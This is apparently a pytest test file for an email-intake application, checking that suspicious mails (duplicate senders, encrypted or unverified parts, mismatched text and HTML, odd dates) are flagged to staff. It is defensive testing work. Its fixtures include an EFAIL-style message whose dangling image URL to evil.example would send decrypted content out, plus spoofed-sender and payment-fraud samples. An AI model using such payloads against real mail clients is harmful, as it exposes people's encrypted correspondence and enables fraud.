"""What is odd about a mail is said to whoever works on its task (design/bad-input.md 5, 30, 32 to 34), and never drops it."""

import re

import pytest

from tests.office import Office

HEAD = b"From: clara@people.example\r\nSubject: leak\r\nDate: Mon, 7 Sep 2026 08:00:00 +0000\r\nMessage-ID: <%s@x.example>\r\n"
TWO_FROM = b"From: a@x.example\r\nFrom: b@x.example\r\nSubject: leak\r\n\r\nx\r\n"
EFAIL = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Hi</p>"
    b'<img src="http://evil.example/\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIIB\r\n'
    b'--b\r\nContent-Type: text/html\r\n\r\n<p>the secret">tail</p>\r\n--b--\r\n'
)
TWO_TALES = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
    b"Please pay 10 EUR.\r\n--b\r\nContent-Type: text/html\r\n\r\n<style>p {color: red}</style><p>%s</p>\r\n--b--\r\n"
)
SMIME = b"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\r\n\r\nMIIB\r\n"
PGP = b"-----BEGIN PGP %s-----\r\n\r\nhQEMA\r\n-----END PGP %s-----\r\n"
SECRET, SIGNED = PGP % (b"MESSAGE", b"MESSAGE"), PGP % (b"SIGNED MESSAGE", b"SIGNATURE")
PGP_MIME = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\n'
    b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n"
    + SECRET
    + b"--b--\r\n"
)
SIGNED_MIME = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b\r\n\r\n--b\r\n\r\n'
    b"It drips.\r\n--b\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n\r\nMIIB\r\n--b--\r\n"
)


def page_of(office: Office, language: str = "en", who: str = "chief@city.example") -> str:
    """The last task's page."""
    from django.test import Client

    from orgo.people.models import User

    client = Client()
    client.force_login(User.objects.get(address=who))
    path = f"/tasks/{office.task().reference}"
    return client.get(path, headers={"Accept-Language": language}).content.decode()


def noted(office: Office, language: str = "en") -> str:
    """What the last task's page says that was odd."""
    return " ".join(re.findall(r'<p class="sub odd">(.*?)</p>', page_of(office, language))).replace(
        "&#x27;", "'"
    )


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (TWO_FROM, "it has two From headers"),
        (HEAD % b"e" + SMIME % b"enveloped-data", "it is encrypted, and Orgo has no key for it"),
        (HEAD % b"s" + SMIME % b"signed-data", "its signature was not verified"),
        (HEAD % b"i" + b"\r\n" + SECRET, "it is encrypted, and Orgo has no key for it"),
        (HEAD % b"p" + PGP_MIME, "it is encrypted, and Orgo has no key for it"),
        (
            HEAD % b"a" + b"\r\nSee below.\r\n" + SECRET,
            "a part of it is encrypted or signed, and was not opened",
        ),
        (HEAD % b"g" + b"\r\n" + SIGNED, "its signature was not verified"),
        (HEAD % b"n" + SIGNED_MIME, "its signature was not verified"),
        (HEAD % b"w" + b"Message-ID: <other@x.example>\r\n\r\nx\r\n", "it has two Message-IDs"),
        (HEAD % b"m" + EFAIL, "a part of it is encrypted or signed, and was not opened"),
        (
            HEAD % b"t" + TWO_TALES % b"Please pay 10,000 EUR to another account now.",
            "its text and its HTML say different things",
        ),
        (HEAD.replace(b"2026 08", b"1970 08") % b"d" + b"\r\nx\r\n", "its date is far from the day it came"),
    ],
)
def test_the_page_says_what_was_odd(office: Office, raw: bytes, words: str) -> None:
    """bad input 5, bad input 30, bad input 31, bad input 32, bad input 33, bad input 44."""
    assert office.mail(raw=raw).outcome == "opened"
    assert words in noted(office)


@pytest.mark.parametrize(
    "head",
    [
        b"From: eve@evil.example\r\nFrom: Boss <boss@city.example>\r\n",
        b"From: eve@evil.example, Boss <boss@city.example>\r\n",
    ],
    ids=["two headers", "two mailboxes"],
)
def test_all_of_several_senders_are_shown(office: Office, head: bytes) -> None:
    """bad input 5, bad input 6: none of them is believed, and a person sees who they say they are."""
    mail = office.mail(raw=head + b"Subject: leak\r\n\r\nx\r\n")
    assert mail.trust == "unknown"
    assert '<span class="address">eve@evil.example, boss@city.example</span>' in page_of(office)


def test_none_of_several_senders_is_shown_of_an_anonymous_task(office: Office) -> None:
    office.mail(raw=TWO_FROM.replace(b"leak", b"harassment"))
    page = page_of(office, who="hanna@city.example")
    assert "<b>the sender</b>" in page and "it has two From headers" in page
    assert "b@x.example" not in page


def test_a_mail_without_a_subject_has_a_title_to_click_on(office: Office) -> None:
    """bad input 3."""
    office.mail(raw=b"\r\nonly text of a leak\r\n")
    assert ">(no subject)</h2>" in page_of(office)


def test_an_ordinary_mail_has_nothing_odd(office: Office) -> None:
    office.mail()
    assert noted(office) == ""


def test_the_same_words_in_text_and_html_are_not_odd(office: Office) -> None:
    link = b'Please <b>pay</b> 10&nbsp;EUR.<a href="https://pay.example/now">Here</a>'
    assert office.mail(raw=HEAD % b"n" + TWO_TALES % link).outcome == "opened"
    assert noted(office) == ""


def test_no_part_of_a_mail_swallows_the_next(office: Office) -> None:
    """bad input 31: EFAIL: the address of an image that begins before a part that was encrypted would end after it."""
    from orgo.message import parse

    html = parse(HEAD % b"m" + EFAIL).html
    assert "evil.example" not in html and "the secret" in html


def test_the_same_message_id_with_other_words_is_a_task_of_its_own_and_is_said(office: Office) -> None:
    """bad input 34: The first one is not called odd for what came after it."""
    office.mail(raw=HEAD % b"one" + b"\r\nIt leaks.\r\n")
    first = office.task()
    assert office.mail(raw=HEAD % b"one" + b"\r\nSomething else.\r\n").outcome == "opened"
    assert "another mail with other words had the same Message-ID" in noted(office)
    office.task = lambda reference=None: first  # type: ignore[method-assign]
    assert noted(office) == ""


def test_it_is_said_in_french(office: Office) -> None:
    office.mail(raw=HEAD % b"e" + SMIME % b"enveloped-data")
    assert "il est chiffré, et Orgo n'en a pas la clé" in noted(office, "fr")
